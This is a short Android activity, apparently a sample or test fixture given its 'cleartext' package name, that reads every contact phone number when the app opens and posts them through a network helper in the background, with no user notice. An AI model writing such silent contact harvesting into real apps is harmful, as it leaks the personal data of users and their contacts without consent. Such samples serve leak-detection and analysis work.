package com.example.cleartext;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;

/** Reads and posts. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder text = new StringBuilder();
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, null, null, null, null);
        int number = cursor.getColumnIndexOrThrow("data1");
        while (cursor.moveToNext()) {
            text.append(cursor.getString(number)).append(' ');
        }
        cursor.close();
        String numbers = text.toString();
        new Thread(() -> Net.post(numbers)).start();
    }
}
